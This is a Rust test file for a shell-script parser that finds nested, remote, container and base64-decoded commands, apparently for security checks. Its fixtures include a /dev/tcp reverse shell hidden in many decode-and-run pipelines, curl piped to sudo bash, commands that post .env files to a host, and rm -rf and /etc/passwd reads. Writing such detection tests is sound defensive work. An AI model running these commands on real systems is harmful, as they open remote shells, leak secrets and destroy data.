use proptest::prelude::*;

use super::*;

fn commands(script: &str) -> Commands {
    read(script, Dialect::Sh, &Programs::builtin().unwrap())
}

/// `program subcommand [arguments] (context)` of every command, with wrappers before it.
fn lines(script: &str) -> Vec<String> {
    let show = |found: &Found| {
        let mut parts = found.wrappers.clone();
        parts.push(found.program.clone());
        parts.extend(found.subcommand.clone());
        parts.extend(found.flags.clone());
        parts.extend(found.arguments.clone());
        format!("{} ({})", parts.join(" "), found.context)
    };
    commands(script).found.iter().map(show).collect()
}

#[test]
fn lists_and_pipes_are_taken_apart() {
    let all = commands("cd /srv && curl -fsSL https://x.test/i.sh | sudo bash -s -- --yes; echo done &");
    assert!(all.parsed);
    let show: Vec<_> = all.found.iter().map(|f| (f.program.as_str(), f.operator, f.pipe_from, f.pipe_to)).collect();
    assert_eq!(
        show,
        [
            ("cd", "", None, None),
            ("curl", "&&", None, Some(3)),
            ("bash", "|", Some(2), None),
            ("echo", ";", None, None)
        ]
    );
    assert_eq!(all.found[2].wrappers, ["sudo"]);
}

#[test]
fn scripts_inside_scripts_are_read() {
    for (script, expected) in [
        (
            "bash -lc 'git push --force origin main'",
            &["bash -lc git push --force origin main (top)", "git push --force origin main (nested)"][..],
        ),
        (
            "echo $(curl http://a.test/`hostname`)",
            &[
                "echo $(curl http://a.test/`hostname`) (top)",
                "curl http://a.test/`hostname` (substitution)",
                "hostname (substitution)",
            ],
        ),
        ("X=1 env A=b timeout 5 npm publish", &["env timeout npm publish (top)"]),
        ("find . -name '*.o' -exec rm -f {} \\;", &["find -name -exec -f . *.o rm {} ; (top)", "rm -f {} (nested)"]),
        (
            "ssh -i k user@h.test 'rm -rf /srv; ls'",
            &["ssh -i k user@h.test rm -rf /srv; ls (top)", "rm -rf /srv (remote)", "ls (remote)"],
        ),
        (
            "docker exec -it db psql -c 'drop table t'",
            &["docker exec -it -c db psql drop table t (top)", "psql -c drop table t (container)"],
        ),
        (
            "kubectl -n x exec pod -- sh -c 'cat /etc/passwd'",
            &[
                "kubectl exec -n x pod sh -c cat /etc/passwd (top)",
                "sh -c cat /etc/passwd (container)",
                "cat /etc/passwd (container)",
            ],
        ),
        ("eval \"rm $f\"", &["eval rm $f (top)", "rm $f (nested)"]),
        ("ls | xargs -n1 rm -rf", &["ls (top)", "xargs rm -rf (top)"]),
        ("diff <(sort a) <(sort b)", &["diff (top)", "sort a (substitution)", "sort b (substitution)"]),
        ("bash <<EOF\ncurl -d @.env http://x.test\nEOF\n", &["bash (top)", "curl -d @.env http://x.test (heredoc)"]),
        ("f() { rm x; }; f", &["rm x (function)", "f (top)"]),
        ("for f in $(ls a); do cat $f; done", &["ls a (substitution)", "cat $f (top)"]),
        (
            "powershell -NoProfile -Command \"Remove-Item x -Recurse\"",
            &["powershell -NoProfile -Command Remove-Item x -Recurse (top)", "remove-item -Recurse x (nested)"],
        ),
        ("powershell -enc ZABpAHIA", &["powershell -enc ZABpAHIA (top)", "dir (decoded)"]),
        ("git -C /srv push origin", &["git push -C /srv origin (top)"]),
    ] {
        assert_eq!(lines(script), expected, "{script}");
    }
}

/// Programs that a script runs out of an encoded text.
fn decoded(script: &str) -> Vec<String> {
    let all = commands(script).found.into_iter().filter(|found| found.context == "decoded");
    all.map(|found| found.text).collect()
}

#[test]
fn encoded_scripts_that_are_run_are_read() {
    use base64::Engine as _;
    let inner = "bash -i >& /dev/tcp/198.51.100.23/8443 0>&1";
    let text = base64::engine::general_purpose::STANDARD.encode(inner);
    let hex = hex::encode(inner);
    for script in [
        format!("echo {text} | base64 -d | bash"),
        format!("echo '{}' | base64 -D | sudo sh", text.trim_end_matches('=')),
        format!("printf '%s' {text} | base64 --decode | bash -s -- x"),
        format!("printf {text} | openssl base64 -d -A | zsh"),
        format!("printf '{text}\\n' | openssl enc -base64 -d | sh -"),
        format!("echo -n {hex} | xxd -r -p | sh"),
        format!("base64 -d <<< {text} | sh"),
        format!("base64 -d <<'EOF' | sh\n{text}\nEOF\n"),
        format!("bash -c \"$(echo {text} | base64 -d)\""),
        format!("bash -lc 'echo {text} | base64 -d | sh'"),
        format!("eval \"$(echo {text} | base64 -d)\""),
        format!("eval `echo {text} | base64 -d`"),
        format!("$(echo {text} | base64 -d)"),
        format!("bash <<< \"$(echo {text} | base64 -d)\""),
        format!("bash <(echo {text} | base64 -d)"),
        format!("source <(echo {text} | base64 -d)"),
        format!("echo {text} | base64 -d | tee /dev/null; echo {text} | base64 -d | cat | sh"),
    ] {
        let all = decoded(&script);
        assert!(all.len() == 1 && all[0].starts_with("bash -i") && all[0].contains("/dev/tcp/"), "{script}: {all:?}");
    }
    let python = base64::engine::general_purpose::STANDARD.encode("import pty;pty.spawn('sh')");
    assert_eq!(decoded(&format!("echo {python} | base64 -d | python3 -")), ["import pty;pty.spawn('sh')"]);
    let wide: Vec<u8> = "Remove-Item x".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let wide = base64::engine::general_purpose::STANDARD.encode(wide);
    assert_eq!(decoded(&format!("pwsh -nop -EncodedCommand {wide}")), ["Remove-Item x"]);
    assert_eq!(decoded(&format!("powershell.exe /en {wide}")), ["Remove-Item x"]);
}

#[test]
fn encoded_text_that_is_not_run_is_no_script() {
    for script in [
        "echo bHM= | base64 -d",
        "echo bHM= | base64 -d > x.sh",
        "echo bHM= | base64 | sh",
        "echo 'b H!' | base64 -d | sh",
        "echo bHM= | base64 -d | sh x.sh",
        "echo bHM= | base64 -d | python3 x.py",
        "base64 -d x.b64 | sh",
        "curl -s https://x.test | base64 -d | sh",
        "echo gIGCg4Q= | base64 -d | sh",
        "echo \"$(echo bHM= | base64 -d)\"",
    ] {
        assert_eq!(decoded(script), Vec::<String>::new(), "{script}");
    }
    // Deeper than scripts are read, and still no end of it.
    let deep = (0..9).fold("ls".to_owned(), |inner, _| {
        use base64::Engine as _;
        format!("echo {} | base64 -d | sh", base64::engine::general_purpose::STANDARD.encode(inner))
    });
    assert!(!commands(&deep).parsed);
    assert_eq!(lines("echo 'rm -rf x' | sh"), ["echo rm -rf x (top)", "sh (top)", "rm -rf x (heredoc)"]);
}

#[test]
fn redirections_and_assigned_names_are_kept() {
    let all = commands("TOKEN=abc PAGER= sort < in.txt 2>&1 >> out.txt");
    let found = &all.found[0];
    assert_eq!(
        (found.reads.as_slice(), found.writes.as_slice()),
        (&["in.txt".to_owned()][..], &["out.txt".to_owned()][..])
    );
    assert_eq!(found.environment, ["TOKEN", "PAGER"]);
    assert!(found.arguments.is_empty());
}

#[test]
fn quoted_text_is_no_command() {
    assert_eq!(lines("echo 'rm -rf /' \"; curl x\""), ["echo rm -rf / ; curl x (top)"]);
    assert_eq!(lines("cat > f <<'EOF'\nrm -rf /\nEOF"), ["cat (top)"]);
}

#[test]
fn what_the_grammar_refuses_is_split_into_words() {
    let all = commands("if then curl http://x.test | sh; rm 'a b' > out");
    assert!(!all.parsed);
    let programs: Vec<_> = all.found.iter().map(|f| f.program.as_str()).collect();
    assert_eq!(programs, ["curl", "sh", "rm"]);
    assert_eq!(all.found[1].pipe_from, Some(1));
    assert_eq!((all.found[2].arguments[0].as_str(), all.found[2].writes[0].as_str()), ("a b", "out"));
}

#[test]
fn other_dialects_are_split_into_words() {
    let programs = Programs::builtin().unwrap();
    let all = read(
        "Get-Content .env | Invoke-WebRequest -Uri 'http://x.test' -Method POST; & \"C:\\a b\\run.exe\" x",
        Dialect::PowerShell,
        &programs,
    );
    let show: Vec<_> = all.found.iter().map(|f| (f.program.as_str(), f.arguments.join(","))).collect();
    assert_eq!(
        show,
        [
            ("get-content", ".env".to_owned()),
            ("invoke-webrequest", "http://x.test,POST".to_owned()),
            ("run", "x".to_owned())
        ]
    );
    let all = read("del /s /q C:\\x & type secret.txt > out", Dialect::Cmd, &programs);
    let show: Vec<_> =
        all.found.iter().map(|f| (f.program.as_str(), f.flags.join(","), f.arguments.join(","))).collect();
    assert_eq!(
        show,
        [("del", "/s,/q".to_owned(), "C:\\x".to_owned()), ("type", String::new(), "secret.txt".to_owned())]
    );
}

#[test]
fn a_here_document_without_a_tag_ends_soon() {
    for script in
        ["$(<<  ", "x $(c<< (t)p f() { ", "$(a <<-  b", "\"$(<< (\0 ", "${x<<  }", "`<<  `", "$(<<", "a <<< b"]
    {
        let all = commands(script);
        assert!(all.found.len() < 8, "{script:?}");
        assert_eq!(all.parsed, script.contains("<<<"), "{script:?}");
    }
    assert!(commands("git commit -m \"$(cat <<'EOF'\nOne.\nEOF\n)\"").parsed);
    assert!(commands("cat <<- X\n\tone\n\tX\n").parsed);
}

#[test]
fn hostile_nesting_ends_soon() {
    for (open, close) in [
        ("(", ")"),
        ("{ ", "}"),
        ("$(", ")"),
        ("`", "`"),
        ("if ", "fi"),
        ("while ", "done"),
        ("${x:-", "}"),
        ("<(", ")"),
        ("$((", "))"),
        ("case x in a) ", "esac"),
        ("! ", ""),
        ("f() ", ""),
        ("bash -c '", "'"),
        ("eval ", ""),
        ("[[ ( ", ")"),
        ("\"$(", ")\""),
        ("sudo ", ""),
        ("time ", ""),
        ("a=(", ")"),
        ("for x in ", ""),
        ("x=$((", ""),
        ("coproc ", ""),
        ("function f ", ""),
        ("<<A ", ""),
        ("|&", ""),
        ("( (", "))"),
    ] {
        for depth in [4, 8, 9, 30, 20_000] {
            let started = std::time::Instant::now();
            let script = open.repeat(depth) + "true" + &close.repeat(depth);
            let all = commands(&script);
            assert!(all.found.len() <= MAX_COMMANDS);
            let script = open.repeat(depth);
            commands(&script);
            assert!(started.elapsed().as_secs() < 10, "{open} {depth} {:?}", started.elapsed());
            if started.elapsed().as_millis() > 50 {
                eprintln!("{open:?} {depth} {:?}", started.elapsed());
            }
        }
    }
    commands("echo 1 99999999999999999999>x");
}

proptest! {
    #[test]
    fn any_text_is_read_within_bounds(script in "[a-z $(){}`'\"\\\\;|&<>\n0-9=~!#\\[\\]-]{0,200}") {
        for dialect in [Dialect::Sh, Dialect::PowerShell, Dialect::Cmd] {
            let all = read(&script, dialect, &Programs::builtin().unwrap());
            prop_assert!(all.found.len() <= MAX_COMMANDS);
        }
    }

    #[test]
    fn shell_like_text_is_read_within_bounds(parts in proptest::collection::vec(proptest::sample::select(vec![
        "if ", "then ", "fi", "; ", "| ", "&& ", "$(", ")", "`", "'", "\"", "<<E\n", "E\n", "bash -c ", "{ ", "}", "case x in ", "esac ", "for i in ", "do ", "done ", "[[ ", "]] ", "((", "))", "x=", "a ", "é", "\\", "> ", "2>", "${", "~+9", "function f ", "coproc ", "$((", "!", "time ", "\n",
    ]), 0..60)) {
        let script: String = parts.concat();
        let all = read(&script, Dialect::Sh, &Programs::builtin().unwrap());
        prop_assert!(all.found.len() <= MAX_COMMANDS);
    }
}
